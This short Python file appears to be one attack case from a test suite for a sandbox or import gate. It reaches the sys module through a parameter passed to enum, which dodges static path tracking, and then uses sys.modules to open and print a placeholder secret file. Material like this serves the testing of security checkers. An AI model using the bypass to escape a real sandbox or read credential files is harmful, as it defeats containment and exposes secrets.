# attack: a module that goes through a parameter has no path any more that the gate could follow: .sys is an ordinary attribute then
# family: attribute
import enum
def innermost(module):
    return module.sys
sys = innermost(enum)
print("REACHED", sys)
print(sys.modules["io"].open("$SECRET_FILE").read())
